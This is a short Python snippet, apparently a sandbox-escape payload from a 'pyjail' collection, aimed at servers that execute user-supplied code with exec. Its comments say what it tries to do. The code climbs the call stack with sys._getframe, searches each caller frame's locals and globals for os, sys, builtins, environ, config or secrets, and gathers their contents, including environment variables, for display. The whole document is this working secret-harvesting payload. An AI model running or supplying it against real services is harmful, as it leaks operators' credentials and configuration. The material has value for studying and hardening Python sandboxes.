# Tries: everything that the callers of the program hold, by sys._getframe.
# Origin: pyjail collections; secrets in the locals of a server that runs exec.

import sys

found, depth = [], 0
while True:
    try:
        frame = sys._getframe(depth)
    except ValueError:
        break
    depth += 1
    for space in (frame.f_locals, frame.f_globals):
        for name, value in list(space.items()):
            if name in ("os", "sys", "builtins", "environ", "config", "secrets"):
                found.append(str(getattr(value, "environ", value)))
found
